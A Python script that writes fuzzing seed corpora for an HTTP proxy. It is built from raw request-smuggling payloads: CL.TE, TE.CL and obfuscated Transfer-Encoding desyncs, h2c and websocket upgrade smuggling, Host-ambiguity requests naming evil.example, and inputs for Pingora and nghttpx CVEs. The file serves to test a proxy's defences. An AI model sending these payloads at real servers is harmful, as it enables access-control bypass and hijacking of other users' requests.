#!/usr/bin/env python3
"""Writes the seed corpora: fuzz/corpus/<target>/<name>. Run from anywhere; see README.md.

Every payload below is written from the published descriptions of the attacks (sources in
README.md), not copied from their proof-of-concept code.
"""
import os

HERE = os.path.dirname(os.path.abspath(__file__))
KEY = "dGhlIHNhbXBsZSBub25jZQ=="
SMUGGLED = "GET /admin HTTP/1.1\r\nHost: internal.example\r\n\r\n"


def head(line, *headers, body=""):
    return line + "\r\n" + "".join(h + "\r\n" for h in headers) + "\r\n" + body


WS = ("Upgrade: websocket", "Connection: Upgrade", f"Sec-WebSocket-Key: {KEY}")
H2_PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"

PAYLOADS = {
    # websocket-smuggle (0ang3el), challenge 1: a bad Sec-WebSocket-Version; the backend
    # answers 426 and a proxy that only looked at the request keeps the pipe open.
    "wss-bad-version": head("GET /socket.io/?transport=websocket HTTP/1.1", "Host: a.example",
                            "Sec-WebSocket-Version: 1337", *WS) + SMUGGLED,
    # websocket-smuggle, challenge 2: the backend answers 101 only because a health check it
    # proxies said so; a proxy that doesn't check the 101 (accept key, Upgrade) tunnels.
    "wss-healthcheck-101": head("GET /check-url?url=http://attacker.example/ HTTP/1.1",
                                "Host: a.example", "Sec-WebSocket-Version: 13", *WS) + SMUGGLED,
    # h2csmuggler (BishopFox): Upgrade: h2c with HTTP2-Settings, then the HTTP/2 preface on
    # the same connection.
    "h2c-upgrade": head("GET / HTTP/1.1", "Host: a.example", "Upgrade: h2c",
                        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
                        "Connection: Upgrade, HTTP2-Settings") + H2_PREFACE,
    "h2c-split-lines": head("GET / HTTP/1.1", "Host: a.example", "Upgrade: H2C",
                            "Upgrade: websocket", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
                            "Connection: HTTP2-Settings", "Connection: upgrade",
                            f"Sec-WebSocket-Key: {KEY}") + H2_PREFACE,
    # Classic CL.TE and TE.CL desync heads (PortSwigger's request smuggling research).
    "cl-te": head("POST / HTTP/1.1", "Host: a.example", "Content-Length: 13",
                  "Transfer-Encoding: chunked", body="0\r\n\r\n" + SMUGGLED),
    "te-cl": head("POST / HTTP/1.1", "Host: a.example", "Transfer-Encoding: chunked",
                  "Content-Length: 4", body="5c\r\nGPOST / HTTP/1.1\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"),
    "te-obfuscated": head("POST / HTTP/1.1", "Host: a.example", "Transfer-Encoding: chunked",
                          "Transfer-Encoding: identity", "Content-Length: 5",
                          body="0\r\n\r\n" + SMUGGLED),
    "te-tab": head("POST / HTTP/1.1", "Host: a.example", "Transfer-Encoding:\tchunked",
                   "Content-Length: 3", body="0\r\n\r\n"),
    # Host ambiguity (RFC 9112 §3.2): two Hosts, absolute-form targets, userinfo.
    "double-host": head("GET / HTTP/1.1", "Host: a.example", "Host: evil.example"),
    "absolute-form": head("GET http://internal.example/admin HTTP/1.1", "Host: a.example"),
    "absolute-userinfo": head("GET http://a.example@evil.example/ HTTP/1.1", "Host: a.example"),
    "host-list": head("GET / HTTP/1.1", "Host: a.example, evil.example"),
    # A Connection header nominating what the proxy must keep.
    "nominate-host": head("GET / HTTP/1.1", "Host: a.example", "Connection: close, Host"),
    "nominate-framing": head("POST / HTTP/1.1", "Host: a.example", "Content-Length: 5",
                             "Connection: Content-Length", body="hello"),
    # Pingora CVE-2026-2833: an Upgrade request switched to pass-through before the backend
    # answered; the backend says 200 and reads the next bytes as a new request.
    "pingora-2833-upgrade-200": head("GET / HTTP/1.1", "Host: a.example", "Upgrade: foo",
                                     "Connection: upgrade") + SMUGGLED,
    # Pingora CVE-2026-2835: Transfer-Encoding lists and HTTP/1.0 close-delimited request
    # bodies.
    "pingora-2835-te-list": head("POST / HTTP/1.1", "Host: a.example",
                                 "Transfer-Encoding: identity, chunked", "Content-Length: 5",
                                 body="0\r\n\r\n" + SMUGGLED),
    "pingora-2835-http10-body": head("POST / HTTP/1.0", "Host: a.example",
                                     "Transfer-Encoding: chunked", body="0\r\n\r\n" + SMUGGLED),
    "pingora-2835-http10-upgrade": head("GET / HTTP/1.0", "Host: a.example", "Upgrade: foo",
                                        "Connection: upgrade") + SMUGGLED,
    # nghttpx CVE-2026-58055: an Upgrade request with a Content-Length body, forwarded on a
    # reusable backend connection with the upgrade pair put back and the length kept.
    "nghttpx-58055-upgrade-cl": head("POST /ws HTTP/1.1", "Host: a.example", *WS,
                                     "Sec-WebSocket-Version: 13",
                                     f"Content-Length: {len(SMUGGLED)}", body=SMUGGLED) + SMUGGLED,
    "nghttpx-58055-upgrade-chunked": head("POST /ws HTTP/1.1", "Host: a.example", "Upgrade: foo",
                                          "Connection: upgrade", "Transfer-Encoding: chunked",
                                          body=f"{len(SMUGGLED):x}\r\n{SMUGGLED}\r\n0\r\n\r\n") + SMUGGLED,
    # A plain request first (it takes a pooled upstream connection), then an upgrade.
    "plain-then-upgrade": head("GET /a HTTP/1.1", "Host: a.example")
    + head("GET /ws HTTP/1.1", "Host: a.example", "Upgrade: foo", "Connection: upgrade") + "TUNNEL",
    "upgrade-expect-continue": head("POST /ws HTTP/1.1", "Host: a.example", "Upgrade: foo",
                                    "Connection: upgrade", "Expect: 100-continue",
                                    "Content-Length: 4", body="body") + "TUNNEL",
    "websocket-ok": head("GET /chat HTTP/1.1", "Host: a.example", *WS,
                         "Sec-WebSocket-Version: 13") + "\x81\x85\x37\xfa\x21\x3d\x7f\x9f\x4d\x51\x58",
}

# server_stream: the first byte is the upstream's script (fuzz_targets/server_stream.rs):
# 0 valid 101, 2 101 with a wrong accept key, 3 426, 4 200, 7 an HTTP/1.0 101; +8 answers
# late, +16 sends upstream bytes right behind a 101.
SCRIPTS = [0, 2, 3, 4, 7, 8, 16]


def write(target, name, data):
    folder = os.path.join(HERE, "corpus", target)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


# With the script's top three bits at 1, 2 or 3, the target puts a valid upgrade head
# (websocket; foo; foo with a 4-byte body) before the bytes: these are what follows it.
BEHIND = {
    "smuggled": SMUGGLED,
    "h2-preface": H2_PREFACE,
    "ws-frame": "\x81\x85\x37\xfa\x21\x3d\x7f\x9f\x4d\x51\x58",
}
for prefix in (1, 2, 3):
    for name, text in BEHIND.items():
        for script in SCRIPTS:
            write("server_stream", f"prefixed{prefix}-{name}.{script}",
                  bytes([prefix << 5 | script]) + text.encode("latin-1"))

for name, text in PAYLOADS.items():
    raw = text.encode("latin-1")
    # head_normalise: a first byte with the low bit set reads the rest as a raw head.
    write("head_normalise", name, b"\x01" + raw)
    for script in SCRIPTS:
        write("server_stream", f"{name}.{script}", bytes([script]) + raw)
